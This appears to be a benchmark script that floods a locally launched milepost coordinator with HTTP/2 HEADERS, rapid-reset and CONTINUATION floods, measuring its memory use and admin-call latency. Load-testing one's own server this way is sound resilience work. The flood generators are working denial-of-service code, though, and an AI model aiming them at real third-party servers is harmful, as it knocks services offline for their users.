#!/usr/bin/env python3
"""What a coordinator's memory and an admin's call do while somebody without a login floods it.

  bench/connection_floods/floods.py --coordinator build/dev/bin/milepost-coordinator --seconds 60

Starts a coordinator of its own with TLS on loopback, in a temporary folder, once per flood; speaks
raw HTTP/2 over TLS 1.3 to that one alone. Prints a line of JSON per flood. Needs nothing beyond
Python's standard library.
"""

import argparse
import json
import multiprocessing
import pathlib
import socket
import ssl
import struct
import subprocess
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 1, 4
FLOODS = ("headers", "reset", "continuation")
ATTACKER = "127.0.0.2"  # another address of this host than the admin's


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, prefix=0x40):  # 0x40: into the dynamic table, 0x00: not
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return bytes([prefix, len(name)]) + name + bytes([len(value)]) + value


def call_headers(path, token=None):
    fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "x"),
              ("te", "trailers"), ("content-type", "application/grpc")]
    if token:
        fields.append(("authorization", "Bearer " + token))
    return b"".join(literal(name, value) for name, value in fields), len(fields)


def connect(address, source=None):
    host, port = address.rsplit(":", 1)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, int(port)), timeout=10,
                                   source_address=(source, 0) if source else None)
    secure = context.wrap_socket(raw)
    secure.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return secure


def admin_call(address, token):
    """Seconds that a whole call on a new connection takes; None: it failed."""
    begin = time.monotonic()
    try:
        with connect(address) as link:
            block, _ = call_headers("/milepost.v1.AuthService/WhoAmI", token)
            link.sendall(frame(HEADERS, END_HEADERS, 1, block) +
                         frame(DATA, END_STREAM, 1, b"\0\0\0\0\0"))
            answer, answered = b"", False
            while True:
                more = link.recv(65536)
                if not more:
                    return None
                answer += more
                while len(answer) >= 9:
                    size = int.from_bytes(answer[:3], "big")
                    kind, flags, stream = answer[3], answer[4], int.from_bytes(answer[5:9], "big")
                    if len(answer) < 9 + size:
                        break
                    answer = answer[9 + size:]
                    answered |= kind == DATA and stream == 1
                    if stream == 1 and (kind == RST or (kind == HEADERS and flags & END_STREAM)):
                        return time.monotonic() - begin if answered else None
    except OSError:
        return None


def batches(kind, path):
    """The bytes to send, forever."""
    block, fields = call_headers(path)
    again = bytes(0x80 | (61 + i) for i in range(fields, 0, -1))  # the same, from the table
    if kind == "continuation":
        yield frame(HEADERS, 0, 1, block)
        more = frame(CONTINUATION, 0, 1, literal("x", "y" * 100, 0x00) * 150)
        while True:
            yield more
    stream = 1
    while True:
        out = []
        for _ in range(200):
            out.append(frame(HEADERS, END_HEADERS, stream, block if stream == 1 else again))
            if kind == "reset":
                out.append(frame(RST, 0, stream, b"\0\0\0\x08"))
            stream += 2
        yield b"".join(out)


def flood(address, kind, source, path, deadline, sent):
    while time.monotonic() < deadline:
        try:
            with connect(address, source) as link:
                link.settimeout(2)
                for batch in batches(kind, path):
                    link.sendall(batch)
                    with sent.get_lock():
                        sent.value += len(batch)
                    if time.monotonic() >= deadline:
                        return
        except OSError:
            time.sleep(0.01)


def resident_bytes(pid):
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


def sample(pid, deadline, seen):
    while time.monotonic() < deadline:
        seen.append(resident_bytes(pid))
        time.sleep(0.05)


def start(binary, folder):
    subprocess.run([binary, "init-pki", folder / "pki", "--host", "127.0.0.1"], check=True,
                   stdout=subprocess.DEVNULL)
    written = folder / "address"
    process = subprocess.Popen(
        [binary, "--data-dir", folder / "store", "--listen", "127.0.0.1:0", "--tls",
         folder / "pki/coordinator", "--address-file", written],
        stderr=open(folder / "log", "w"))
    while not written.exists():
        assert process.poll() is None, (folder / "log").read_text()
        time.sleep(0.02)
    return process, written.read_text().strip()


def measure(options, kind):
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        process, address = start(options.coordinator, folder)
        try:
            token = (folder / "pki/client/admin-token").read_text().strip()
            before = resident_bytes(process.pid)
            deadline = time.monotonic() + options.seconds
            sent = multiprocessing.Value("Q", 0)
            attackers = [multiprocessing.Process(
                target=flood, args=(address, kind, options.source, options.path, deadline, sent))
                         for _ in range(options.connections)]
            for attacker in attackers:
                attacker.start()
            calls, seen = [], [before]
            sampler = threading.Thread(target=sample, args=(process.pid, deadline, seen))
            sampler.start()
            while time.monotonic() < deadline:
                calls.append(admin_call(address, token))
                time.sleep(0.5)
            sampler.join()
            for attacker in attackers:
                attacker.join(5)
                attacker.kill()
            time.sleep(1)
            done = [call for call in calls if call is not None]
            return {
                "flood": kind, "from": options.source, "seconds": options.seconds,
                "connections": options.connections, "sent_mb": sent.value // 10**6,
                "rss_mb_before": before // 10**6, "rss_mb_most": max(seen) // 10**6,
                "rss_mb_after": resident_bytes(process.pid) // 10**6, "admin_calls": len(calls),
                "admin_calls_failed": len(calls) - len(done),
                "admin_call_s_most": round(max(done, default=-1), 3),
                "alive": process.poll() is None,
            }
        finally:
            process.terminate()
            process.wait()
            if options.log:
                print((folder / "log").read_text()[-4000:])


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--coordinator", required=True)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--source", default=ATTACKER, help="the attacker's address")
    parser.add_argument("--path", default="/milepost.v1.AuthService/WhoAmI")
    parser.add_argument("--flood", choices=FLOODS, action="append")
    parser.add_argument("--log", action="store_true", help="show the coordinator's log")
    options = parser.parse_args()
    for kind in options.flood or FLOODS:
        print(json.dumps(measure(options, kind)), flush=True)


if __name__ == "__main__":
    main()
